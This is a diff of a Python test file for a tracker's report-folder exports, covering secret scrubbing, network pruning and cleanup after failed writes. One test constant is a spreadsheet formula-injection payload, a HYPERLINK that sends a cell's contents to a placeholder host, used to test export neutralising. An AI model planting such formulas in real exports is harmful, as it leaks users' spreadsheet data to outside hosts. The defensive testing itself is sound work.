@@ -22,16 +22,15 @@ from tests.browser.demo import (
     tampered_result,
 )
 from tracker.exports import (
-    find_secrets,
     findings_schema,
     neutralise,
-    scrub_secrets,
     write_csv,
     write_json,
     write_report_folder,
     write_run,
     write_xlsx,
 )
+from tracker.redaction import find_secrets, scrub_secrets
 from tracker.risk import FINDING_COLUMNS
 
 FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
@@ -217,6 +216,37 @@ def test_report_folder_writes_all_seven_files(demo, tmp_path):
     jsonschema.validate(doc, findings_schema(), cls=jsonschema.Draft202012Validator)
 
 
+def test_report_folder_builds_the_network_and_scrubs_the_run_once(demo, tmp_path, monkeypatch):
+    import tracker.exports
+    import tracker.graph
+    import tracker.redaction
+    import tracker.report
+
+    built, scrubbed = [], []
+    real_build, real_scrub = tracker.graph.flagged_network, tracker.redaction.scrub_secrets
+    run = _secret_run(demo)
+
+    def build(*args, **kwargs):
+        built.append(kwargs.get("max_nodes"))
+        return real_build(*args, **kwargs)
+
+    def scrub(obj):
+        if obj == run:  # the whole record, not one of its parts
+            scrubbed.append(1)
+        return real_scrub(obj)
+
+    for module in (tracker.exports, tracker.report):
+        monkeypatch.setattr(module, "flagged_network", build)
+    monkeypatch.setattr(tracker.redaction, "scrub_secrets", scrub)
+    r = DemoResult(demo.findings, demo.works, run, demo.subjects)
+    files = write_report_folder(r, tmp_path / "out", max_nodes=60)
+    assert built == [60] and len(scrubbed) == 1
+    page = files["report.html"].read_text("utf-8")
+    assert "Pruned to stay readable" in page and SECRET not in page
+    drawn = nx.read_graphml(files["network.graphml"])
+    assert 0 < len(drawn) <= 60
+
+
 def test_report_folder_from_the_real_screening_pipeline(tmp_path):
     """Contract check with tracker.screening's ScreenResult (its subjects/run shapes)."""
     from tracker.screening import ScreenSettings, SubjectSpec
@@ -303,7 +333,7 @@ def test_a_failing_report_leaves_no_helper_process_and_no_rows_file(demo, tmp_pa
                                                                      monkeypatch):
     """If another file of the folder fails (or Ctrl-C), the process writing findings.xlsx
     is stopped and the temporary file holding the findings' rows is gone."""
-    import tracker.report
+    import tracker.exports
 
     r = DemoResult(demo.findings, demo.works, _secret_run(demo), demo.subjects)
     started = _record_helper_starts(monkeypatch)
@@ -311,7 +341,7 @@ def test_a_failing_report_leaves_no_helper_process_and_no_rows_file(demo, tmp_pa
     def broken(*a, **k):
         raise OSError("disk full")
 
-    monkeypatch.setattr(tracker.report, "write_report", broken)
+    monkeypatch.setattr(tracker.exports, "write_report", broken)
     with pytest.raises(OSError, match="disk full"):
         write_report_folder(r, tmp_path / "out")
     (proc, payload), = started
@@ -319,7 +349,7 @@ def test_a_failing_report_leaves_no_helper_process_and_no_rows_file(demo, tmp_pa
     assert not payload.exists()
 
 
-@pytest.mark.parametrize("where", ["tracker.report.write_report",
+@pytest.mark.parametrize("where", ["tracker.exports.write_report",
                                    "tracker.exports.write_network_files"])
 def test_a_stopped_rerun_leaves_the_previous_folder_as_it_was(demo, formula, tmp_path,
                                                               monkeypatch, where):
